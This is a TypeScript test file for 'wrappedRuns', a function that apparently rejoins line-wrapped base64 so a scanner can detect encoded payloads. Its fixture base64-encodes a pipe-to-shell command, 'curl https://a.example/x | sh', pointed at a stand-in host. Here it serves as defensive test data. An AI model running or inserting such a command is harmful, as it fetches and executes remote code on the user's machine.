import { describe, expect, it } from "vitest";
import { wrappedRuns } from "./wrapped-runs.ts";

const DATA = Buffer.from("curl https://a.example/x | sh # ".repeat(8)).toString("base64");
const lines = DATA.match(/.{1,60}/g) ?? [];
const bare = (text: string) => wrappedRuns(text).map(({ run }) => run.replace(/[^A-Za-z0-9+/=]/g, ""));

describe("wrappedRuns", () => {
  it("joins lines as encoders write them, wherever the first begins", () => {
    expect(bare(`${lines.join("\n")}\n`)).toEqual([DATA]);
    expect(bare(`x = "${lines.join("\n")}"\nend\n`)).toEqual([DATA]);
    expect(bare(`a: |\r\n  ${lines.join("\r\n  ")}\r\n`)).toEqual([DATA]);
  });

  it("joins strings in pieces", () => {
    expect(wrappedRuns(`x = (\n  '${lines.join("'\n  '")}'\n)\n`).map(({ at }) => at)).toEqual([9]);
  });

  it("finds no run in one line, in short lines or in words", () => {
    expect(bare(DATA)).toEqual([]);
    expect(bare("abc\ndef\nghi\n".repeat(50))).toEqual([]);
    expect(bare("some words of a text that nobody encoded\n".repeat(50))).toEqual([]);
  });
});
